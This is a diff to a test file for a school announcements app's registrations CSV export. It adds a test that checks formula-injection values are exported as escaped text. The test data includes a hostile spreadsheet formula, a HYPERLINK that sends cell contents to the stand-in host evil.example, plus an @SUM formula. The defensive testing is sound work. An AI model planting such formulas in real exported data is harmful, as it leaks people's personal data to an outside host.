@@ -137,8 +137,8 @@ describe('announcements and notifications', () => {
     expect(list.json().registrations).toEqual([expect.objectContaining({ userId: students.arts.id, name: 'arts' })]);
     const csv = await call('GET', `/api/admin/announcements/${event.id}/registrations.csv`, teacher.token);
     expect(csv.headers['content-type']).toContain('text/csv');
-    expect(csv.body.replace('\uFEFF', '').split('\n')[0]).toBe('name,phone,email,college,registered_at');
-    expect(csv.body).toContain('arts,+91 ');
+    expect(csv.body.replace('\uFEFF', '').split('\r\n')[0]).toBe('name,phone,email,college,registered_at');
+    expect(csv.body).toContain(`arts,"'+91 `);
 
     const notice = (await notificationsOf(students.arts.token)).items.find((item) => !item.hasRegistration)!;
     const none = await call('POST', `/api/announcements/${notice.id}/registrations`, students.arts.token);
@@ -146,6 +146,29 @@ describe('announcements and notifications', () => {
     now += 3 * DAY_MS;
     const late = await call('POST', `/api/announcements/${event.id}/registrations`, students.science.token);
     expect(late.json().error.message).toBe('Registration has closed: the event has started.');
+  });
+
+  it('writes a name or college a spreadsheet would run as a formula as text in registrations.csv', async () => {
+    const hostileName = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")';
+    const { id } = await insertStudent(testApp.database.db, { name: hostileName });
+    await testApp.database.db.updateTable('users').set({ collegeName: '@SUM(1+1)' }).where('id', '=', id).execute();
+    const token = await startStudentSession(testApp.database.db, id, now);
+    const event = await publish({
+      kind: 'event',
+      title: 'Debate',
+      content: 'Two sides.',
+      location: 'Hall',
+      audience: 'everyone',
+      hasRegistration: true,
+      eventAt: now + 2 * DAY_MS,
+    });
+    expect((await call('POST', `/api/announcements/${event.id}/registrations`, token)).statusCode).toBe(204);
+    const csv = await call('GET', `/api/admin/announcements/${event.id}/registrations.csv`, teacher.token);
+    expect(csv.statusCode).toBe(200);
+    const line = csv.body.split('\r\n')[1]!;
+    expect(line.startsWith(`"'=HYPERLINK(""https://evil.example/?leak=""&C2,""Open"")",`)).toBe(true);
+    expect(line).toContain(`,"'@SUM(1+1)",`);
+    expect(csv.body).not.toMatch(/(^|[,\n])=HYPERLINK/);
   });
 
   it('lets teachers publish and students not; refuses an audience without what it names', async () => {
